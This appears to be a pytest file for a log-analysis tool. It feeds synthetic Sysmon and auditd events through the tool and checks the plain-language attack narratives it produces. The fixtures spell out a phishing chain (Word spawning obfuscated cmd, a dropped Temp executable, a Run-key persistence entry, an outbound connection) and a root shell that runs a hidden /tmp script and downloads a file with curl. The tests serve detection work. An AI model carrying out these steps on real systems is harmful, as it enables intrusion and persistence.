"""From logs in the shapes people have to sequences: a phishing document, and a cron job."""

import json

from dragoman.prepare.sequence import sequences
from dragoman.sources.logs import identified, open_events, ordered

GUID = "{{A1B2C3D4-0000-0000-0000-0000000000{:02X}}}"


def sysmon(number, second, **data):
    return {
        "EventID": number,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Hostname": "pc1.example.com",
        "UtcTime": f"2026-03-01 10:00:{second:02d}.000",
        "@timestamp": f"2026-03-01T10:00:{second:02d}.000Z",
        **data,
    }


def created(second, child, image, command, parent, parent_image):
    return sysmon(
        1, second, ProcessGuid=GUID.format(child), ProcessId=child, Image=image,
        CommandLine=command, User="CORP\\ann", ParentProcessGuid=GUID.format(parent),
        ParentProcessId=parent, ParentImage=parent_image,
    )  # fmt: skip


WORD, SHELL = r"C:\Program Files\Office\winword.exe", r"C:\Windows\System32\cmd.exe"
SYSMON = [
    created(1, 20, SHELL, "cmd /c s^et", 16, WORD),
    sysmon(11, 2, ProcessGuid=GUID.format(20), ProcessId=20, Image=SHELL,
           TargetFilename=r"C:\Users\ann\AppData\Local\Temp\q8Zx2Kv9.exe"),
    created(3, 21, r"C:\Users\ann\AppData\Local\Temp\q8Zx2Kv9.exe", "q8Zx2Kv9.exe", 20, SHELL),
    sysmon(13, 4, ProcessGuid=GUID.format(21), ProcessId=21,
           Image=r"C:\Users\ann\AppData\Local\Temp\q8Zx2Kv9.exe",
           TargetObject=r"HKU\S-1-5-21-1-2-3\Software\Microsoft\Windows\CurrentVersion\Run\u",
           Details=r"C:\Users\ann\AppData\Local\Temp\q8Zx2Kv9.exe"),
    sysmon(3, 5, ProcessGuid=GUID.format(21), ProcessId=21,
           Image=r"C:\Users\ann\AppData\Local\Temp\q8Zx2Kv9.exe", Protocol="tcp", Initiated="true",
           SourceIp="192.0.2.7", SourcePort="50123", DestinationIp="8.8.4.4",
           DestinationPort="443"),
]  # fmt: skip


def told(tmp_path, text):
    log = tmp_path / "log"
    log.write_text(text, "utf-8")
    events = list(identified(ordered(open_events(log))))
    run = sequences(events)
    return list(run), events


def test_sysmon(tmp_path):
    (sequence,), events = told(tmp_path, "".join(json.dumps(row) + "\n" for row in SYSMON))
    assert sequence.host == "pc1.example.com"
    assert sequence.ancestry == "winword.exe"
    assert [e.sentence for e in sequence.elements] == [
        'cmd.exe was started by winword.exe with the command line "cmd /c s^et", which decodes to'
        ' "cmd /c set" as user',
        r"cmd.exe created an executable %temp%\<random>.exe (the temporary folder)",
        "<random>.exe from the temporary folder was started by cmd.exe with the command line"
        ' "<random>.exe" as user',
        "<random>.exe from the temporary folder set the registry value"
        r" hkcu\software\microsoft\windows\currentversion\run\u"
        r' (a registry key that starts programs at logon) to "%temp%\<random>.exe"',
        "<random>.exe from the temporary folder connected to a public address on port 443"
        " (encrypted web)",
    ]
    assert [e.events for e in sequence.elements] == [(event.id,) for event in events]
    assert not any("ann" in e.sentence or "q8Zx" in e.sentence for e in sequence.elements)
    assert [e.protected for e in sequence.elements] == [True, False, True, True, False]


def audit(serial, second, ppid, pid, exe, *args):
    stamp = f"msg=audit(1772359{second:03d}.000:{serial}):"
    words = " ".join(f'a{n}="{word}"' for n, word in enumerate(args))
    return (
        f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 ppid={ppid} pid={pid}"
        f' auid=0 uid=0 gid=0 euid=0 tty=(none) ses=3 comm="x" exe="{exe}" key="exec"\n'
        f"type=EXECVE {stamp} argc={len(args)} {words}\n"
        f"type=EOE {stamp} \n"
    )


def test_auditd(tmp_path):
    text = audit(1, 1, 500, 600, "/usr/bin/bash", "sh", "-c", "/tmp/.x/run") + audit(
        2, 2, 600, 601, "/usr/bin/curl", "curl", "-o", "/tmp/y", "http://192.0.2.9/y"
    )
    (sequence,), _ = told(tmp_path, text)
    assert [e.sentence for e in sequence.elements] == [
        'bash was started with the command line "sh -c %temp%/.x/run" as root',
        'curl was started by bash with the command line "curl -o %temp%/y http://<private>/y"'
        " as root",
    ]
